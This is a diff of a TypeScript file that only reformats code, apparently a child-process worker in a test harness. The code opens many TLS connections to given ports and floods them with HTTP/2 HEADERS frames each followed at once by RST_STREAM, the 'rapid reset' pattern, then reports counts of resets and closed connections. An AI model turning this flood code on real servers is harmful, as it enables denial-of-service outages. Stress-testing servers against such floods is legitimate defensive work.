@@ -39,14 +39,23 @@ function attack(port: number): Promise<void> {
     let stream = 1;
     const more = (): void => {
       for (;;) {
-        if (performance.now() >= endsAt || stream > streamIdsMax - 2 * streamsEach) { socket.destroy(); return; }
+        if (performance.now() >= endsAt || stream > streamIdsMax - 2 * streamsEach) {
+          socket.destroy();
+          return;
+        }
         const frames: Buffer[] = [];
-        for (let each = 0; each < streamsEach; each += 1, stream += 2) frames.push(frame(frameTypes.headers, 5, stream, block), frame(frameTypes.reset, 0, stream, cancel));
+        for (let each = 0; each < streamsEach; each += 1, stream += 2)
+          frames.push(frame(frameTypes.headers, 5, stream, block), frame(frameTypes.reset, 0, stream, cancel));
         resets += streamsEach;
         if (!socket.write(Buffer.concat(frames))) return;
       }
     };
-    socket.on('error', () => undefined).on('drain', more).once('close', () => { resolve(); });
+    socket
+      .on('error', () => undefined)
+      .on('drain', more)
+      .once('close', () => {
+        resolve();
+      });
     let rest: Buffer = Buffer.alloc(0);
     socket.on('data', (chunk: Buffer) => {
       const bytes = Buffer.concat([rest, chunk]);
@@ -56,8 +65,16 @@ function attack(port: number): Promise<void> {
       sentAway += 1;
       socket.destroy();
     });
-    socket.once('secureConnect', () => { socket.write(Buffer.concat([http2Preface, frame(frameTypes.settings, 0, 0, Buffer.alloc(0))])); more(); });
-    setTimeout(() => { socket.destroy(); }, Math.max(0, endsAt - performance.now())).unref();
+    socket.once('secureConnect', () => {
+      socket.write(Buffer.concat([http2Preface, frame(frameTypes.settings, 0, 0, Buffer.alloc(0))]));
+      more();
+    });
+    setTimeout(
+      () => {
+        socket.destroy();
+      },
+      Math.max(0, endsAt - performance.now()),
+    ).unref();
   });
 }
 
@@ -72,12 +89,14 @@ function framesIn(bytes: Buffer): { readonly away: boolean; readonly end: number
 }
 
 process.send?.('open');
-await Promise.all(Array.from({ length: task.connections }, async (_, each) => {
-  while (performance.now() < endsAt) {
-    await attack(task.ports[each % task.ports.length] as number);
-    if (performance.now() < endsAt) closed += 1;
-  }
-}));
+await Promise.all(
+  Array.from({ length: task.connections }, async (_, each) => {
+    while (performance.now() < endsAt) {
+      await attack(task.ports[each % task.ports.length] as number);
+      if (performance.now() < endsAt) closed += 1;
+    }
+  }),
+);
 process.send?.('offered');
 const report: ResetReport = { resets, sentAway, closed };
 process.send?.(report, () => process.exit(0));
